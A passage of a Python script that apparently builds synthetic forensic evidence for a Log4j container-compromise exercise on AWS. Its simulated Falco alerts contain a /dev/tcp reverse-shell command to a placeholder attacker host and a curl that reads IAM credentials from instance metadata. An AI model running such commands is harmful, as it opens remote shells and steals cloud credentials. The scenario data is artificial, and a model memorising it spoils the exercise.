          "Redirect stdout/stdin to network connection (gparent=java ggparent=conmon gggparent=<NA> fd.sip=%s connection=10.0.2.100:49822->%s:4444 lport=49822 rport=4444 fd_type=ipv4 fd_proto=tcp evt_type=dup2 user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/usr/bin/bash parent=java command=sh -c sh -i >& /dev/tcp/%s/4444 0>&1 terminal=0 container_id=%s container_name=<NA>)" % (ATTACKER, ATTACKER, ATTACKER, API[:12]),
          {"fd.sip": ATTACKER, "fd.name": "10.0.2.100:49822->%s:4444" % ATTACKER, "proc.name": "sh", "proc.pname": "java",
           "proc.cmdline": "sh -c sh -i >& /dev/tcp/%s/4444 0>&1" % ATTACKER, "proc.exepath": "/usr/bin/bash", "user.name": "root", "user.uid": 0},
          ["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"]),
    falco("09:15:10", 52334001, "Contact EC2 Instance Metadata Service From Container", "Notice",
          "Outbound connection to EC2 instance metadata service (connection=10.0.2.100:50122->169.254.169.254:80 lport=50122 rport=80 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root user_uid=0 user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=sh command=curl -s -H X-aws-ec2-metadata-token:AQAEAEXn http://169.254.169.254/latest/meta-data/iam/security-credentials/%s terminal=0 container_id=%s container_name=<NA>)" % (ROLE_A, API[:12]),
          {"fd.name": "10.0.2.100:50122->169.254.169.254:80", "fd.sip": "169.254.169.254", "proc.name": "curl", "proc.pname": "sh",
           "proc.cmdline": "curl -s -H X-aws-ec2-metadata-token:AQAEAEXn http://169.254.169.254/latest/meta-data/iam/security-credentials/" + ROLE_A,
           "proc.exepath": "/usr/bin/curl", "user.name": "root", "user.uid": 0},
          ["T1552.005", "aws", "container", "maturity_incubating", "mitre_credential_access", "network"]),
    falco("09:15:52", 700120034, "Write below etc", "Error",
          "File below /etc opened for writing (file=/etc/passwd pcmdline=sh -i gparent=java ggparent=conmon gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/usr/bin/bash parent=sh command=sh -i terminal=0 container_id=%s container_name=<NA>)" % API[:12],
          {"fd.name": "/etc/passwd", "proc.name": "sh", "proc.pname": "sh", "proc.cmdline": "sh -i", "proc.exepath": "/usr/bin/bash",
           "user.name": "root", "user.uid": 0},
          ["T1098", "container", "filesystem", "host", "maturity_incubating", "mitre_persistence"]),
    falco("09:16:21", 18022310, "Drop and execute new binary in container", "Critical",
          "Executing binary not part of base image (proc_exe=/tmp/.cache/kthreadd proc_sname=java gparent=sh proc_exe_ino_ctime=1795166174000000000 proc_exe_ino_mtime=1795166174000000000 proc_exe_ino_ctime_duration_proc_start=7018311 proc_cwd=/tmp/.cache/ container_start_ts=1795154461702441003 evt_type=execve user=root user_uid=0 user_loginuid=-1 process=kthreadd proc_exepath=/tmp/.cache/kthreadd parent=sh command=kthreadd -c /tmp/.cache/config.json terminal=0 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER container_id=%s container_name=<NA>)" % API[:12],
          {"proc.exe": "/tmp/.cache/kthreadd", "proc.exepath": "/tmp/.cache/kthreadd", "proc.name": "kthreadd", "proc.pname": "sh",
           "proc.cmdline": "kthreadd -c /tmp/.cache/config.json", "proc.sname": "java", "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
           "user.name": "root", "user.uid": 0},
          ["PCI_DSS_11.5.1", "TA0003", "container", "maturity_stable", "mitre_persistence", "process"]),
]
write(A + "var/log/falco/falco_events.json", jl(falco_alerts))

# ------------------------------------------------------------------------------------------------ AWS: CloudTrail
_ct = [0]


def ct(hms, session, key, instance, role, source, name, src_ip, ua, params=None, error=None, readonly=True,
       data=False, vpce=None, resources=None):
    _ct[0] += 1
    principal = "AROAPODMANSCEN4RIO%02d" % (1 if session == SESSION_A else 2)
    r = {"eventVersion": "1.09", "userIdentity": {"type": "AssumedRole", "principalId": principal + ":" + instance,
         "arn": session, "accountId": ACCT, "accessKeyId": key,
         "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": principal,
                            "arn": "arn:aws:iam::%s:role/%s" % (ACCT, role), "accountId": ACCT, "userName": role},
                            "attributes": {"creationDate": "%sT05:50:12Z" % DAY, "mfaAuthenticated": "false"},
                            "ec2RoleDelivery": "2.0"}},
         "eventTime": "%sT%sZ" % (DAY, hms), "eventSource": source, "eventName": name, "awsRegion": REGION,
         "sourceIPAddress": src_ip, "userAgent": ua, "requestParameters": params, "responseElements": None,
         "requestID": "PODMANSC%08d" % _ct[0], "eventID": "5e3d7c2b-0000-4000-8000-%012d" % _ct[0],
         "readOnly": readonly, "eventType": "AwsApiCall", "managementEvent": not data, "recipientAccountId": ACCT,
         "eventCategory": "Data" if data else "Management",
         "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256", "clientProvidedHostHeader": source}}
    if error:
        r["errorCode"], r["errorMessage"] = error
    if vpce:
        r["vpcEndpointId"], r["vpcEndpointAccountId"] = vpce, ACCT
    if resources:
        r["resources"] = resources
    return r


def obj(bucket, key):
    return [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::%s/%s" % (bucket, key)},
            {"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::" + bucket}]


SDK_UA = "aws-sdk-java/2.21.29 Linux/5.14.0-427.13.1.el9_4.x86_64 OpenJDK_64-Bit_Server_VM/17.0.9+9-LTS Java/17.0.9 vendor/Red_Hat__Inc. io/sync http/Apache cfg/retry-mode/legacy"
CURL_UA = "curl/7.76.1"
CLI_UA = "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.5.0-1014-aws md/arch#x86_64 lang/python#3.11.8 md/installer#exe md/prompt#off md/command#"
EXPORTS, INVOICES, FEED = "orders-exports-444444444444", "orders-invoices-444444444444", "inventory-feed-444444444444"
VPCE = "vpce-0444bbbb00s3gw001"
EXPORT_KEY = "exports/customers-2026-11.csv.gz"


def a(hms, source, name, src_ip, ua, **kw):
    return ct(hms, SESSION_A, KEY_A, INSTANCE_A, ROLE_A, source, name, src_ip, ua, **kw)


def b(hms, source, name, src_ip, ua, **kw):
    return ct(hms, SESSION_B, KEY_B, INSTANCE_B, ROLE_B, source, name, src_ip, ua, **kw)


trail = [
    # the apps' own calls with the instance role, from the host's address through the S3 gateway endpoint
    a("08:30:14", "s3.amazonaws.com", "PutObject", IP_A, SDK_UA, readonly=False, data=True, vpce=VPCE,
      params={"bucketName": INVOICES, "key": "invoices/88110.pdf", "Host": INVOICES + ".s3.us-east-1.amazonaws.com"},
      resources=obj(INVOICES, "invoices/88110.pdf")),
    a("09:00:03", "s3.amazonaws.com", "PutObject", IP_A, SDK_UA, readonly=False, data=True, vpce=VPCE,
      params={"bucketName": EXPORTS, "key": "exports/orders-2026-11-20T0900.csv", "Host": EXPORTS + ".s3.us-east-1.amazonaws.com"},
      resources=obj(EXPORTS, "exports/orders-2026-11-20T0900.csv")),
    # the attacker in orders-api, with the credentials it read from IMDS at 09:15:10: curl --aws-sigv4 from the host
    a("09:15:31", "sts.amazonaws.com", "GetCallerIdentity", EIP_A, CURL_UA),
    a("09:16:02", "s3.amazonaws.com", "ListBuckets", IP_A, CURL_UA, vpce=VPCE, params={"Host": "s3.us-east-1.amazonaws.com"}),
    a("09:16:40", "s3.amazonaws.com", "GetObject", IP_A, CURL_UA, data=True, vpce=VPCE,
      params={"bucketName": EXPORTS, "key": EXPORT_KEY, "Host": EXPORTS + ".s3.us-east-1.amazonaws.com"},
      resources=obj(EXPORTS, EXPORT_KEY)),
    # the same key from outside
    a("10:02:10", "sts.amazonaws.com", "GetCallerIdentity", OUTSIDE, CLI_UA + "sts.get-caller-identity"),
    a("10:02:44", "s3.amazonaws.com", "ListObjects", OUTSIDE, CLI_UA + "s3.ls", data=True,
      params={"bucketName": EXPORTS, "prefix": "exports/", "Host": EXPORTS + ".s3.us-east-1.amazonaws.com"},
      resources=[{"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::" + EXPORTS}]),
    a("10:03:05", "s3.amazonaws.com", "GetObject", OUTSIDE, CLI_UA + "s3.cp", data=True,
      params={"bucketName": EXPORTS, "key": "exports/orders-2026-11-20T0900.csv", "Host": EXPORTS + ".s3.us-east-1.amazonaws.com"},
      resources=obj(EXPORTS, "exports/orders-2026-11-20T0900.csv")),
    a("10:03:41", "iam.amazonaws.com", "ListAttachedRolePolicies", OUTSIDE, CLI_UA + "iam.list-attached-role-policies",
      params={"roleName": ROLE_A}, error=("AccessDenied", "User: %s is not authorized to perform: iam:ListAttachedRolePolicies on resource: role %s because no identity-based policy allows the iam:ListAttachedRolePolicies action" % (SESSION_A, ROLE_A))),
    a("09:40:05", "s3.amazonaws.com", "PutObject", IP_A, SDK_UA, readonly=False, data=True, vpce=VPCE,
      params={"bucketName": INVOICES, "key": "invoices/88131.pdf", "Host": INVOICES + ".s3.us-east-1.amazonaws.com"},
      resources=obj(INVOICES, "invoices/88131.pdf")),
    # host B's role: its own reads
    b("09:30:00", "s3.amazonaws.com", "GetObject", IP_B, SDK_UA, data=True, vpce=VPCE,
      params={"bucketName": FEED, "key": "feed/2026-11-20T0930.json", "Host": FEED + ".s3.us-east-1.amazonaws.com"},
      resources=obj(FEED, "feed/2026-11-20T0930.json")),
]
trail.sort(key=lambda r: r["eventTime"])
write("AWSLogs/%s/CloudTrail/%s/2026/11/20/%s_CloudTrail_%s_20261120T1005Z_PodmanSc3nario01.json" % (ACCT, REGION, ACCT, REGION),
      json.dumps({"Records": trail}, separators=(",", ":")))

# ---------------------------------------------------------------------------------------------- AWS: VPC Flow Logs
# version 5 custom format with the instance id and the packet addresses; host A's and host B's ENIs; IMDS traffic is
# not logged (AWS documents it); a rootless container's traffic leaves through slirp4netns: the host's own address
FLOW_FIELDS = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr flow-direction traffic-path"


def flow(eni, inst, subnet, src, dst, sport, dport, pk, by, start, end, direction, path="-", flags=3):
    return " ".join(map(str, [5, ACCT, eni, src, dst, sport, dport, 6, pk, by, epoch(start), epoch(end), "ACCEPT", "OK",
                              VPC, subnet, inst, flags, "IPv4", src, dst, direction, path]))


fa = lambda *x, **k: flow(ENI_A, INSTANCE_A, SUBNET_A, *x, **k)
fb = lambda *x, **k: flow(ENI_B, INSTANCE_B, SUBNET_B, *x, **k)
flows = [FLOW_FIELDS,
         fa(ATTACKER, IP_A, 40112, 8080, 12, 2210, "09:14:00", "09:14:59", "ingress"),
         fa(IP_A, ATTACKER, 8080, 40112, 10, 1620, "09:14:00", "09:14:59", "egress", 8),
         fa(IP_A, ATTACKER, 52110, 1389, 8, 912, "09:14:00", "09:14:59", "egress", 8),
         fa(IP_A, ATTACKER, 52118, 8000, 9, 1204, "09:14:00", "09:14:59", "egress", 8),
         fa(IP_A, ATTACKER, 49822, 4444, 140, 18812, "09:14:00", "09:17:59", "egress", 8),
         fa(IP_A, S3_IP, 55310, 443, 2210, 311204, "09:16:00", "09:16:59", "egress", 7),
         fa(S3_IP, IP_A, 443, 55310, 36120, 48911220, "09:16:00", "09:16:59", "ingress"),
         fa(IP_A, ATTACKER, 51022, 443, 35104, 48702311, "09:17:00", "09:17:59", "egress", 8),
         fa(IP_A, POOL_IP, 41880, POOL_PORT, 402, 61230, "09:16:00", "09:20:59", "egress", 8),
         fb(IP_B, S3_IP, 48110, 443, 120, 9911, "09:30:00", "09:30:59", "egress", 7),
         fb(S3_IP, IP_B, 443, 48110, 410, 402113, "09:30:00", "09:30:59", "ingress")]
write("AWSLogs/%s/vpcflowlogs/%s/2026/11/20/%s_vpcflowlogs_%s_fl-0444bbbb0000f0001_20261120T0920Z_4b1e9c0a.log" % (ACCT, REGION, ACCT, REGION),
      "\n".join(flows) + "\n")

# ------------------------------------------------------------------------------------------ AWS: the EC2 inventory
# the responder's `aws ec2 describe-instances --instance-ids <A> <B> > aws/ec2-describe-instances.json` (AWS CLI v2
# JSON output): host A's elastic IP is its primary interface's association (PublicIpAddress, Association.PublicIp);
# host B has no public address (it reaches S3 through the gateway endpoint)
def ec2_instance(instance, host, ip, eni, subnet, role, launch, public_ip=None):
    assoc = {"IpOwnerId": "amazon", "PublicDnsName": "", "PublicIp": public_ip} if public_ip else None
    private = {"Primary": True, "PrivateDnsName": host, "PrivateIpAddress": ip}
    if assoc:
        private["Association"] = assoc
    ni = {"Attachment": {"AttachTime": launch, "AttachmentId": "eni-attach-" + hexid(eni, 17), "DeleteOnTermination": True,
                         "DeviceIndex": 0, "Status": "attached", "NetworkCardIndex": 0},
          "Description": "", "Groups": [{"GroupName": "orders-hosts", "GroupId": "sg-0444bbbb0000e0001"}],
          "Ipv6Addresses": [], "MacAddress": "0e:44:" + ":".join(hexid(eni, 8)[i:i + 2] for i in range(0, 8, 2)),
          "NetworkInterfaceId": eni, "OwnerId": ACCT, "PrivateDnsName": host, "PrivateIpAddress": ip,
          "PrivateIpAddresses": [private], "SourceDestCheck": True, "Status": "in-use", "SubnetId": subnet, "VpcId": VPC,
          "InterfaceType": "interface"}
    if assoc:
        ni["Association"] = assoc
    inst = {"AmiLaunchIndex": 0, "ImageId": "ami-0444bbbb0000d0001", "InstanceId": instance, "InstanceType": "m6i.large",
            "LaunchTime": launch, "Placement": {"AvailabilityZone": REGION + "a", "GroupName": "", "Tenancy": "default"},
            "PrivateDnsName": host, "PrivateIpAddress": ip, "ProductCodes": [], "PublicDnsName": "",
            "State": {"Code": 16, "Name": "running"}, "SubnetId": subnet, "VpcId": VPC, "Architecture": "x86_64",
            "IamInstanceProfile": {"Arn": "arn:aws:iam::%s:instance-profile/%s" % (ACCT, role), "Id": "AIPA" + hexid(role, 17).upper()},
            "NetworkInterfaces": [ni], "RootDeviceName": "/dev/sda1", "RootDeviceType": "ebs",
            "Tags": [{"Key": "Name", "Value": host.split(".")[0]}]}
    if public_ip:
        inst["PublicIpAddress"] = public_ip
    return inst


write("aws/ec2-describe-instances.json", json.dumps({"Reservations": [
    {"Groups": [], "Instances": [ec2_instance(INSTANCE_A, HOST_A, IP_A, ENI_A, SUBNET_A, ROLE_A, "2026-11-02T08:14:27+00:00", EIP_A)],
     "OwnerId": ACCT, "ReservationId": "r-" + hexid("reservation A", 17)},
    {"Groups": [], "Instances": [ec2_instance(INSTANCE_B, HOST_B, IP_B, ENI_B, SUBNET_B, ROLE_B, "2026-11-02T08:20:03+00:00")],
     "OwnerId": ACCT, "ReservationId": "r-" + hexid("reservation B", 17)}]}, indent=4) + "\n")

# ------------------------------------------------------------------------ the image's SBOM and scan (the registry)
# CI attached both to the image in the registry (`syft registry.example.com/orders/api:2.7.0 -o cyclonedx-json`,
# `trivy image -f json`); the responder downloaded them
PKGS = [("org.apache.logging.log4j", "log4j-core", "2.14.1"), ("org.apache.logging.log4j", "log4j-api", "2.14.1"),
        ("org.springframework", "spring-webmvc", "6.0.13"), ("org.apache.tomcat.embed", "tomcat-embed-core", "10.1.15")]
RPMS = [("openssl-libs", "1:3.0.7-25.el9_3"), ("curl", "7.76.1-26.el9_3.2"), ("bash", "5.1.8-6.el9_1")]
cdx = {"$schema": "http://cyclonedx.org/schema/bom-1.5.schema.json", "bomFormat": "CycloneDX", "specVersion": "1.5",
       "serialNumber": "urn:uuid:" + hexid("sbom serial")[:8] + "-" + hexid("sbom serial")[8:12] + "-4" + hexid("sbom serial")[13:16] + "-8" + hexid("sbom serial")[17:20] + "-" + hexid("sbom serial")[20:32],
       "version": 1,
       "metadata": {"timestamp": "2026-11-11T03:20:44Z",
                    "tools": {"components": [{"type": "application", "author": "anchore", "name": "syft", "version": "1.16.0"}]},
                    "component": {"bom-ref": hexid("bomref image", 16), "type": "container", "name": IMAGE_REPO,
                                  "version": "sha256:" + IMAGE_ID}},
       "components": []}
for g, n, v in PKGS:
    cdx["components"].append({"bom-ref": "pkg:maven/%s/%s@%s?package-id=%s" % (g, n, v, hexid(n, 16)), "type": "library",
                              "group": g, "name": n, "version": v, "purl": "pkg:maven/%s/%s@%s" % (g, n, v),
                              "cpe": "cpe:2.3:a:apache:%s:%s:*:*:*:*:*:*:*" % (n.replace("-", "_"), v),
                              "properties": [{"name": "syft:package:foundBy", "value": "java-archive-cataloger"},
                                             {"name": "syft:package:language", "value": "java"},
                                             {"name": "syft:package:type", "value": "java-archive"},
                                             {"name": "syft:package:metadataType", "value": "java-archive"},
                                             {"name": "syft:location:0:layerID", "value": "sha256:" + hexid("diff app")},
                                             {"name": "syft:location:0:path", "value": "/opt/app/orders-api.jar"}]})
for n, v in RPMS:
    cdx["components"].append({"bom-ref": "pkg:rpm/redhat/%s@%s?arch=x86_64&distro=rhel-9.4&package-id=%s" % (n, v, hexid(n, 16)),
                              "type": "library", "publisher": "Red Hat, Inc.", "name": n, "version": v,
                              "purl": "pkg:rpm/redhat/%s@%s?arch=x86_64&distro=rhel-9.4" % (n, v.split(":")[-1]),
                              "properties": [{"name": "syft:package:foundBy", "value": "rpm-db-cataloger"},
                                             {"name": "syft:package:type", "value": "rpm"},
                                             {"name": "syft:location:0:layerID", "value": "sha256:" + hexid("diff base")},
                                             {"name": "syft:location:0:path", "value": "/var/lib/rpm/rpmdb.sqlite"}]})
cdx["components"].append({"bom-ref": hexid("os", 16), "type": "operating-system", "name": "rhel", "version": "9.4",
                          "description": "Red Hat Enterprise Linux 9.4 (Plow)", "swid": {"tagId": "rhel", "name": "rhel", "version": "9.4"}})
write("registry/orders-api/2.7.0/sbom.cyclonedx.json", json.dumps(cdx, indent=1))


def tvuln(cve, pkg, path, installed, fixed, severity, score, title, pkg_id=None):
    v = {"VulnerabilityID": cve, "PkgID": pkg_id or "%s@%s" % (pkg, installed), "PkgName": pkg,
         "PkgIdentifier": {"PURL": "pkg:maven/%s@%s" % (pkg.replace(":", "/"), installed)},
         "InstalledVersion": installed, "FixedVersion": fixed, "Status": "fixed",
         "Layer": {"Digest": "sha256:" + hexid("gz app"), "DiffID": "sha256:" + hexid("diff app")},
         "SeveritySource": "ghsa", "PrimaryURL": "https://avd.aquasec.com/nvd/" + cve.lower(),
         "DataSource": {"ID": "ghsa", "Name": "GitHub Security Advisory maven", "URL": "https://github.com/advisories?query=type%3Areviewed+ecosystem%3Amaven"},
         "Title": title, "Description": title + ".", "Severity": severity,
         "CweIDs": ["CWE-502", "CWE-400", "CWE-20"], "VendorSeverity": {"ghsa": 4, "nvd": 4, "redhat": 3},
         "CVSS": {"nvd": {"V2Vector": "AV:N/AC:M/Au:N/C:C/I:C/A:C", "V3Vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", "V2Score": 9.3, "V3Score": score}},
         "References": ["https://logging.apache.org/log4j/2.x/security.html"], "PublishedDate": "2021-12-10T10:15:09.143Z",
         "LastModifiedDate": "2025-02-04T15:15:13.773Z"}
    if path:
        v["PkgPath"] = path
    return v


trivy = {"SchemaVersion": 2, "CreatedAt": "2026-11-11T03:21:02.551233017Z", "ArtifactName": IMAGE, "ArtifactType": "container_image",
         "Metadata": {"Size": 445831168, "OS": {"Family": "redhat", "Name": "9.4"}, "ImageID": "sha256:" + IMAGE_ID,
                      "DiffIDs": ["sha256:" + hexid("diff base"), "sha256:" + hexid("diff app")],
                      "RepoTags": [IMAGE], "RepoDigests": ["%s@%s" % (IMAGE_REPO, IMAGE_DIGEST)],
                      "ImageConfig": {"architecture": "amd64", "created": "2026-11-11T03:12:00Z", "os": "linux",
                                      "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hexid("diff base"), "sha256:" + hexid("diff app")]},
                                      "config": {"Cmd": ["java", "-XX:MaxRAMPercentage=75", "-jar", "/opt/app/orders-api.jar"],
                                                 "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "JAVA_HOME=/usr/lib/jvm/jre-17"],
                                                 "Labels": LABELS, "WorkingDir": "/opt/app"}}},
         "Results": [
             {"Target": "%s (redhat 9.4)" % IMAGE, "Class": "os-pkgs", "Type": "redhat",
              "Vulnerabilities": [
                  {"VulnerabilityID": "CVE-2024-2511", "PkgID": "openssl-libs@3.0.7-25.el9_3.x86_64", "PkgName": "openssl-libs",
                   "PkgIdentifier": {"PURL": "pkg:rpm/redhat/openssl-libs@3.0.7-25.el9_3?arch=x86_64&distro=redhat-9.4"},
                   "InstalledVersion": "1:3.0.7-25.el9_3", "FixedVersion": "1:3.0.7-27.el9", "Status": "fixed",
                   "Layer": {"Digest": "sha256:" + hexid("gz base"), "DiffID": "sha256:" + hexid("diff base")},
                   "SeveritySource": "redhat", "PrimaryURL": "https://avd.aquasec.com/nvd/cve-2024-2511",
                   "Title": "openssl: Unbounded memory growth with session handling in TLSv1.3", "Severity": "LOW",
                   "VendorSeverity": {"redhat": 1}, "CVSS": {"redhat": {"V3Vector": "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:L", "V3Score": 3.7}}}]},
             {"Target": "Java", "Class": "lang-pkgs", "Type": "jar",
              "Vulnerabilities": [
                  tvuln(CVE, "org.apache.logging.log4j:log4j-core", "opt/app/orders-api.jar/BOOT-INF/lib/log4j-core-2.14.1.jar",
                        "2.14.1", "2.15.0, 2.3.1, 2.12.2", "CRITICAL", 10.0,
                        "log4j-core: Remote code injection in Log4j"),
                  tvuln("CVE-2021-45046", "org.apache.logging.log4j:log4j-core", "opt/app/orders-api.jar/BOOT-INF/lib/log4j-core-2.14.1.jar",
                        "2.14.1", "2.16.0, 2.12.2", "CRITICAL", 9.0,
                        "log4j-core: DoS in log4j 2.x with thread context message pattern and context lookup pattern (incomplete fix for CVE-2021-44228)")]}]}
write("registry/orders-api/2.7.0/trivy-image.json", json.dumps(trivy, indent=2))

# ------------------------------------------------------------------------------------------------ context manifest
write("strata-context.yaml", """# Where each host's evidence came from (the files do not say it themselves): the responder imaged both
# instances and ran a live-response script on host A first; AWSLogs/ names its account itself; registry/ holds what CI
# attached to the image in the registry (its SBOM and scan), no host's.
- path: hosts/%s
  host: %s
  cloud_provider: aws
  cloud_account: "%s"
  cloud_region: %s
  cloud_instance: %s
- path: hosts/%s
  host: %s
  cloud_provider: aws
  cloud_account: "%s"
  cloud_region: %s
  cloud_instance: %s
""" % (INSTANCE_A, HOST_A, ACCT, REGION, INSTANCE_A, INSTANCE_B, HOST_B, ACCT, REGION, INSTANCE_B))

# a writable layer's directories changed when the container wrote into them: their mtime is their latest entry's
dirs = {}
for p, t in mtimes:
    if "/diff/" not in p:
        continue  # not in a layer (a container's config.json)
    d = os.path.dirname(p)
    while not d.endswith("/diff"):
        dirs[d] = max(dirs.get(d, 0), t)
        d = os.path.dirname(d)
write("mtimes.tsv", "".join("%s\t%d\n" % (p, t) for p, t in sorted(mtimes + list(dirs.items()), key=lambda x: (-x[0].count("/"), x[0]))))
write("ids.txt", "".join("%s=%s\n" % kv for kv in [
    ("API", API), ("REPORTS", REPORTS), ("SYNC", SYNC), ("IMAGE_ID", IMAGE_ID), ("IMAGE_DIGEST", IMAGE_DIGEST),
    ("MINER_SHA256", MINER_SHA256), ("API_LAYER", API_LAYER), ("REPORTS_LAYER", REPORTS_LAYER)]))
